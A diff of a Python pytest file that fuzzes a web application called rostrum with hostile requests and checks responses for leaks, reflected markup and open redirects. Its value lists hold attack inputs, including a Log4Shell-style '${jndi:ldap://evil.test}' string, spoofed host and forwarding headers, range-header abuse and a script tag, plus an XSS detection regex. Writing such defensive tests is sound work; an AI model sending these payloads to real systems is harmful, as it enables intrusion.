@@ -12,12 +12,10 @@ from collections.abc import Callable, Iterator
 
 import pytest
 
-from rostrum.domain.errors import UserError
-from rostrum.wording import explain
 from rostrum.web.cookie import COOKIE
 from tests.services.signing import PASSWORD
 from tests.web.hostile import Answer, Asked
-from tests.web.hostile_team import TEAM, Team3, a_team, everything_logged, from_browser
+from tests.web.hostile_team import TEAM, Besieged, a_team, everything_logged, from_browser
 from tests.web.hostile_words import Pest
 
 ACTORS = ("nobody", "ana", "tess")
@@ -25,7 +23,12 @@ COUNTS = {"addresses": 1400, "queries": 700, "headers": 1100, "forms": 1000, "re
 KINDS = ("audio", "mp3", "txt", "vtt", "srt", "json", "pdf", "docx")
 JOIN = {"name": "Carla", "email": "carla@example.net", "password": PASSWORD, "age": "adult"}
 FORMS: dict[str, dict[str, str]] = {
-    "/auth/sign-in": {"email": "tess.own@example.org", "password": PASSWORD, "next": "/", "code": ""},
+    "/auth/sign-in": {
+        "email": "tess.own@example.org",
+        "password": PASSWORD,
+        "next": "/",
+        "code": "",
+    },
     "/auth/join/{token}": {**JOIN, "code": ""},
     "/auth/forgot": {"email": "nobody@example.org"},
     "/auth/reset/{token}": {"password": "nine purple ladders"},
@@ -36,6 +39,46 @@ FORMS: dict[str, dict[str, str]] = {
 }
 
 
+HOSTS = (*[b"localhost"] * 20, b"evil.test", b"", b"localhost@evil.test", b"[::1", b"\xff")
+ODD_HEADERS = (
+    *("x-forwarded-for", "x-forwarded-host", "x-forwarded-proto", "forwarded", "x-real-ip"),
+    *("x-remote-user", "x-auth-request-email", "cf-connecting-ip", "x-http-method-override"),
+    *("x-original-url", "content-length", "transfer-encoding", "range", "if-range", "cookie"),
+    *("origin", "referer", "user-agent", "accept", "accept-language", "content-encoding"),
+    *("sec-fetch-site", "sec-fetch-dest", "if-modified-since", "expect", "upgrade", "te"),
+)
+ODD_VALUES = (
+    *(
+        b"",
+        b"127.0.0.1",
+        b"127.0.0.1, evil",
+        b"::1%0",
+        b"https",
+        b"ana.own@example.org",
+        b"\xff\xfe",
+    ),
+    *(
+        b"bytes=0-",
+        b"bytes=-1",
+        b"bytes=9-1",
+        b"bytes=" + b"0-1," * 900,
+        b"chunked",
+        b"-1",
+        b"9" * 30,
+    ),
+    *(b"rostrum_session=", b"rostrum_session=x; rostrum_session=y", b'rostrum_session="\\377"'),
+    *(
+        b"http://localhost",
+        b"null",
+        b"http://localhost.evil.test",
+        b"gzip, gzip",
+        b"*/*",
+        b"DELETE",
+    ),
+    *(b"x" * 9000, b"same-origin", b"cross-site", b"${jndi:ldap://evil.test}", b"<script>"),
+)
+
+
 @pytest.fixture(scope="module")
 def it(tmp_path_factory):
     made = a_team(tmp_path_factory.mktemp("hostile-team"))
@@ -43,7 +86,7 @@ def it(tmp_path_factory):
     made.services.store.close()
 
 
-def addresses(it: Team3, pest: Pest) -> Iterator[Asked]:
+def addresses(it: Besieged, pest: Pest) -> Iterator[Asked]:
     """Ids and paths that are nobody's, another's, or no id at all."""
 
     def one() -> Asked:
@@ -71,7 +114,7 @@ def addresses(it: Team3, pest: Pest) -> Iterator[Asked]:
     return (one() for _ in range(COUNTS["addresses"]))
 
 
-def queries(it: Team3, pest: Pest) -> Iterator[Asked]:
+def queries(it: Besieged, pest: Pest) -> Iterator[Asked]:
     """Query strings, and where signing in is told to lead."""
 
     def one() -> Asked:
@@ -82,23 +125,8 @@ def queries(it: Team3, pest: Pest) -> Iterator[Asked]:
     return (one() for _ in range(COUNTS["queries"]))
 
 
-def headers(it: Team3, pest: Pest) -> Iterator[Asked]:
+def headers(it: Besieged, pest: Pest) -> Iterator[Asked]:
     """Headers of other sites, proxies, caches and liars, on addresses that exist."""
-    hosts = (*[b"localhost"] * 20, b"evil.test", b"", b"localhost@evil.test", b"[::1", b"\xff")
-    names = (
-        *("x-forwarded-for", "x-forwarded-host", "x-forwarded-proto", "forwarded", "x-real-ip"),
-        *("x-remote-user", "x-auth-request-email", "cf-connecting-ip", "x-http-method-override"),
-        *("x-original-url", "content-length", "transfer-encoding", "range", "if-range", "cookie"),
-        *("origin", "referer", "user-agent", "accept", "accept-language", "content-encoding"),
-        *("sec-fetch-site", "sec-fetch-dest", "if-modified-since", "expect", "upgrade", "te"),
-    )
-    values = (
-        *(b"", b"127.0.0.1", b"127.0.0.1, evil", b"::1%0", b"https", b"ana.own@example.org", b"\xff\xfe"),
-        *(b"bytes=0-", b"bytes=-1", b"bytes=9-1", b"bytes=" + b"0-1," * 900, b"chunked", b"-1", b"9" * 30),
-        *(b"rostrum_session=", b"rostrum_session=x; rostrum_session=y", b'rostrum_session="\\377"'),
-        *(b"http://localhost", b"null", b"http://localhost.evil.test", b"gzip, gzip", b"*/*", b"DELETE"),
-        *(b"x" * 9000, b"same-origin", b"cross-site", b"${jndi:ldap://evil.test}", b"<script>"),
-    )
 
     def one() -> Asked:
         method, path = pest.one_of(
@@ -112,15 +140,15 @@ def headers(it: Team3, pest: Pest) -> Iterator[Asked]:
             ("POST", "/api/takes"),
             (pest.one_of("PATCH", "TRACE", "X", "OPTIONS", "HEAD"), "/api/takes"),
         )
-        odd = {pest.one_of(*names): pest.one_of(*values) for _ in range(3)}
-        asked = from_browser(it, pest.one_of(*ACTORS), host=pest.one_of(*hosts), **odd)
+        odd = {pest.one_of(*ODD_HEADERS): pest.one_of(*ODD_VALUES) for _ in range(3)}
+        asked = from_browser(it, pest.one_of(*ACTORS), host=pest.one_of(*HOSTS), **odd)
         client = pest.one_of("127.0.0.1", "192.0.2.1", "203.0.113.9", "testclient", "")
         return Asked(method, path, asked, b"{}", b"", client)
 
     return (one() for _ in range(COUNTS["headers"]))
 
 
-def forms(it: Team3, pest: Pest) -> Iterator[Asked]:
+def forms(it: Besieged, pest: Pest) -> Iterator[Asked]:
     """Forms with fields that are hostile, doubled, missing or of another kind."""
 
     def one(number: int) -> Asked:
@@ -136,12 +164,18 @@ def forms(it: Team3, pest: Pest) -> Iterator[Asked]:
     return (one(number) for number in range(COUNTS["forms"]))
 
 
-def recordings(it: Team3, pest: Pest) -> Iterator[Asked]:
+def recordings(it: Besieged, pest: Pest) -> Iterator[Asked]:
     """What no recorder of ours sends."""
 
     def one() -> Asked:
-        fields: dict[str, object] = {"pitch": "pitch-ana", "media_type": "audio/webm", "draft": None}
-        fields[pest.one_of("pitch", "media_type", "draft")] = pest.one_of("pitch-otto", pest.value())
+        fields: dict[str, object] = {
+            "pitch": "pitch-ana",
+            "media_type": "audio/webm",
+            "draft": None,
+        }
+        fields[pest.one_of("pitch", "media_type", "draft")] = pest.one_of(
+            "pitch-otto", pest.value()
+        )
         take = it.takes[pest.one_of("ana", "otto")]
         method, path, body = pest.one_of(
             ("POST", "/api/takes", json.dumps(fields).encode()),
@@ -156,7 +190,7 @@ def recordings(it: Team3, pest: Pest) -> Iterator[Asked]:
     return (one() for _ in range(COUNTS["recordings"]))
 
 
-BATCHES: dict[str, Callable[[Team3, Pest], Iterator[Asked]]] = {
+BATCHES: dict[str, Callable[[Besieged, Pest], Iterator[Asked]]] = {
     made.__name__: made for made in (addresses, queries, headers, forms, recordings)
 }
 
@@ -171,7 +205,7 @@ def is_clear(answer: Answer) -> bool:
     return 5 < len(answer.body) < 100
 
 
-def faults(it: Team3, asked: Asked, answer: Answer) -> list[str]:
+def faults(it: Besieged, asked: Asked, answer: Answer) -> list[str]:
     """Return what is wrong with an answer."""
     told = answer.body.decode("utf-8", "replace") + repr(answer.headers)
     wrong = [f"tells {word}" for word in it.hidden if word in told and word not in asked.path]
@@ -179,7 +213,9 @@ def faults(it: Team3, asked: Asked, answer: Answer) -> list[str]:
         wrong.append(f"status {answer.status}")
     if answer.status >= 400 and asked.method != "HEAD" and not is_clear(answer):
         wrong.append(f"no clear refusal: {answer.status} {answer.body[:80]!r}")
-    if re.search(r"<script|<img|<svg|onerror=alert\(1\)>|onfocus='", told.replace('src="data:', "")):
+    if re.search(
+        r"<script|<img|<svg|onerror=alert\(1\)>|onfocus='", told.replace('src="data:', "")
+    ):
         wrong.append("markup came back")
     where = answer.headers.get("location", "/")
     if not where.startswith("/") or where.startswith("//") or "\\" in where:
